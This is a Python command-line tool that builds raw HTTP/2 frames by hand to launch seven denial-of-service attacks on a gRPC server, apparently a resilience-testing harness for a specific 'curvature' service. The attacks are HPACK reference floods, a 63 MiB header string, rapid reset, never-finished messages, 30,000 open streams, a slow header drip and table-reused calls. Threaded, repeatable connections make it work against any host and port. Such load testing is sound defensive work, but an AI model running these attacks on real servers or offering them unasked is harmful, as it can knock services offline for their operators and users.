#!/usr/bin/python3
"""What HTTP/2 lets a stranger do to a server: http2_attacks.py NAME HOST:PORT [--tls CA] [--connections N] [--token TOKEN]

Frames are made by hand, since no decent HTTP/2 library would send them. Goes on until the server closes the connection, or
all of the attack is sent and LINGER seconds are over. Prints one line of JSON: connections tried, bytes given to the system to
be sent, the seconds of the connection that was open longest, and how many the server closed.
"""

import argparse
import contextlib
import json
import selectors
import socket
import ssl
import struct
import threading
import time

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 8, 9
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_CANCEL = struct.pack("!I", 8)
_FRAME_BYTES = 16_384
_REFERENCE = b"\xbe"  # to the first entry of HPACK's dynamic table

WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
INFO = "/curvature.v1.CurvatureService/GetServerInfo"
ESTIMATE = "/curvature.v1.CurvatureService/EstimateCurvature"


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def hpack_integer(value, prefix_bits, first=0):
    most = (1 << prefix_bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytearray([first | most]), value - most
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out) + bytes([value])


def _text(value):
    return hpack_integer(len(value), 7) + value


def call_headers(path, token=None):
    """The header block of a gRPC call that leaves HPACK's dynamic table empty."""
    block = b"\x83\x86" + b"\x04" + _text(path.encode()) + b"\x01" + _text(b"curvd")
    block += b"\x0f\x10" + _text(b"application/grpc") + b"\x00" + _text(b"te") + _text(b"trailers")
    if token:
        block += b"\x00" + _text(b"authorization") + _text(b"Bearer " + token.encode())
    return block


class Connection:
    """Sends frames while it reads what the server grants. `acknowledge`: whether it answers SETTINGS."""

    def __init__(self, address, ca=None, acknowledge=True):
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), 10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if ca:
            context = ssl.create_default_context(cafile=ca)
            context.check_hostname = False
            context.set_alpn_protocols(["h2"])
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.socket.setblocking(False)
        self.acknowledge = acknowledge
        self.closed = False
        self.sent = 0
        self.window, self.initial_window, self.windows = 65_535, 65_535, {}
        self._out, self._in = bytearray(), bytearray()
        self._selector = selectors.DefaultSelector()
        self._selector.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE)
        self.put(_PREFACE + frame(_SETTINGS, 0, 0))

    def put(self, octets):
        """Queues; sends what is queued once it is much."""
        self._out += octets
        if len(self._out) >= 65_536:
            self.flush()

    def flush(self, seconds=60):
        deadline = time.monotonic() + seconds
        while self._out and not self.closed and time.monotonic() < deadline:
            self.turn(1)

    def turn(self, seconds):
        """Waits for the socket; reads and writes what it can."""
        self._selector.modify(self.socket, selectors.EVENT_READ | (selectors.EVENT_WRITE if self._out else 0))
        if not self._selector.select(seconds):
            return
        try:
            self._read()
            if self._out and not self.closed:
                count = self.socket.send(memoryview(self._out)[:65_536].tobytes())
                self.sent += count
                del self._out[:count]
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.closed = True

    def _read(self):
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
            while True:
                octets = self.socket.recv(65_536)
                if not octets:
                    self.closed = True
                    return
                self._in += octets
        while len(self._in) >= 9:
            length = int.from_bytes(self._in[:3], "big")
            if len(self._in) < 9 + length:
                return
            kind, flags, stream = self._in[3], self._in[4], int.from_bytes(self._in[5:9], "big")
            payload = bytes(self._in[9 : 9 + length])
            del self._in[: 9 + length]
            self._take(kind, flags, stream, payload)

    def _take(self, kind, flags, stream, payload):
        if kind == _WINDOW_UPDATE:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.window += more
            else:
                self.windows[stream] = self.windows.get(stream, 0) + more
        elif kind == _SETTINGS and not flags & _ACK:
            for i in range(0, len(payload), 6):
                if payload[i : i + 2] == b"\x00\x04":
                    self.initial_window = int.from_bytes(payload[i + 2 : i + 6], "big")
            if self.acknowledge:
                self._out += frame(_SETTINGS, _ACK, 0)

    def wait(self, seconds):
        """Reads what comes, for so long, or until the connection is closed."""
        until = time.monotonic() + seconds
        while not self.closed and time.monotonic() < until:
            self.turn(until - time.monotonic())

    def room(self, stream):
        """Bytes of DATA that the server takes now."""
        return max(0, min(self.window, self.initial_window + self.windows.get(stream, 0)))

    def put_data(self, stream, octets):
        """REQUIRES: there is room for them."""
        self.window -= len(octets)
        self.windows[stream] = self.windows.get(stream, 0) - len(octets)
        self.put(frame(_DATA, 0, stream, octets))


def _put_block(connection, stream, block, fragment=_FRAME_BYTES, ends=True):
    """A header block as HEADERS and CONTINUATION frames of `fragment` bytes each."""
    connection.put(frame(_HEADERS, 0, stream, block[:fragment]))
    for first in range(fragment, len(block), fragment):
        if connection.closed:
            return
        connection.put(frame(_CONTINUATION, 0, stream, block[first : first + fragment]))
    if ends:
        connection.put(frame(_CONTINUATION, _END_HEADERS, stream))


def references(connection, options):
    """Each of 30 calls has 480,000 references of one byte to a header in HPACK's table; SETTINGS are never answered."""
    for stream in range(1, 61, 2):
        entry = b"\x40" + _text(b"a") + _text(b"b") if stream == 1 else b""
        _put_block(connection, stream, call_headers(options.path or WATCH, options.token) + entry + _REFERENCE * 480_000)


def long_string(connection, options):
    """One header string of 63 MiB, in CONTINUATION frames of few bytes."""
    opening = call_headers(options.path or WATCH, options.token) + b"\x00" + _text(b"x") + hpack_integer(63 << 20, 7)
    connection.put(frame(_HEADERS, 0, 1, opening))
    piece = frame(_CONTINUATION, 0, 1, b"y" * options.fragment)
    many = piece * max(1, 4_096 // len(piece))
    while not connection.closed and connection.sent < options.most:
        connection.put(many)


def rapid_reset(connection, options):
    """Calls that are reset at once: HEADERS and RST_STREAM in pairs."""
    block = call_headers(options.path or CHECK, options.token)
    for stream in range(1, 800_001, 2):
        if connection.closed or connection.sent > options.most:
            return
        connection.put(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RST_STREAM, 0, stream, _CANCEL))


def half_messages(connection, options):
    """200 calls, each with 5,100 KiB of a message that never ends."""
    size, message_prefix = 5_100 << 10, struct.pack("!BI", 0, 5_110 << 10)
    left = {}
    for stream in range(1, 401, 2):
        connection.put(frame(_HEADERS, _END_HEADERS, stream, call_headers(options.path or INFO, options.token)))
        left[stream] = size
        if connection.room(stream) >= 5:
            connection.put_data(stream, message_prefix)
    connection.flush()
    idle_since = time.monotonic()
    while left and not connection.closed and time.monotonic() - idle_since < options.linger:
        for stream in list(left):
            count = min(left[stream], connection.room(stream), _FRAME_BYTES)
            if count == 0 or connection.closed:
                continue
            connection.put_data(stream, bytes(count))
            idle_since = time.monotonic()
            left[stream] -= count
            if left[stream] == 0:
                del left[stream]
        connection.flush()
        connection.turn(0.01)


def many_streams(connection, options):
    """30,000 calls at a time that stay open; SETTINGS are never answered."""
    block = call_headers(options.path or WATCH, options.token)
    for stream in range(1, 60_001, 2):
        if connection.closed:
            return
        connection.put(frame(_HEADERS, _END_HEADERS, stream, block) + frame(_DATA, 0, stream, struct.pack("!BI", 0, 0)))


def drip(connection, options):
    """Half of a header of references at once, then 64 bytes a second of it, as slowly as pings come."""
    block = call_headers(options.path or WATCH, options.token) + b"\x40" + _text(b"a") + _text(b"b")
    connection.put(frame(_HEADERS, 0, 1, block + _REFERENCE * (_FRAME_BYTES - len(block))))
    connection.flush()
    while not connection.closed and connection.sent < options.most:
        connection.put(frame(_CONTINUATION, 0, 1, _REFERENCE * 7))
        connection.flush()
        connection.wait(0.25)


def small_calls(connection, options):
    """740 unary calls of 15 bytes each, whose messages never come: HPACK's table has all of their headers."""
    path, kind = _text((options.path or INFO).encode()), _text(b"application/grpc")
    first = b"\x83\x86\x44" + path + b"\x41" + _text(b"curvd") + b"\x5f" + kind
    first += b"\x40" + _text(b"te") + _text(b"trailers")
    for stream in range(1, 1_481, 2):
        block = first if stream == 1 else b"\x83\x86\xc1\xc0\xbf\xbe"
        connection.put(frame(_HEADERS, _END_HEADERS, stream, block))


ATTACKS = {attack.__name__: attack for attack in (
    references, long_string, rapid_reset, half_messages, many_streams, drip, small_calls)}
_ACKNOWLEDGES = (rapid_reset, half_messages)


def run(options, results):
    began = time.monotonic()
    attack = ATTACKS[options.name]
    try:
        connection = Connection(options.address, options.tls, attack in _ACKNOWLEDGES)
    except OSError:
        results.append((0, time.monotonic() - began, True))
        return
    with contextlib.closing(connection.socket):
        attack(connection, options)
        connection.flush()
        lingering = time.monotonic()
        while not connection.closed and time.monotonic() - lingering < options.linger:
            connection.turn(0.1)
        results.append((connection.sent, time.monotonic() - began, connection.closed))


def _repeat(options, results):
    until = time.monotonic() + options.repeat
    run(options, results)
    while time.monotonic() < until:
        run(options, results)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("address")
    parser.add_argument("--tls", metavar="CA", help="a file of the server's authority")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--repeat", type=float, default=0, help="seconds for which a closed connection is made again")
    parser.add_argument("--path", help="the method, if not the attack's own")
    parser.add_argument("--token")
    parser.add_argument("--fragment", type=int, default=9, help="bytes of a frame of long_string")
    parser.add_argument("--most", type=int, default=34 << 20, help="bytes to send on a connection")
    parser.add_argument("--linger", type=float, default=20, help="seconds to wait for the server to close")
    options = parser.parse_args()
    results = []
    threads = [threading.Thread(target=_repeat, args=(options, results)) for _ in range(options.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps({
        "tried": len(results), "sent": sum(result[0] for result in results), "sent_each": max(r[0] for r in results),
        "longest": round(max(result[1] for result in results), 3), "closed": sum(result[2] for result in results),
    }))


if __name__ == "__main__":
    main()
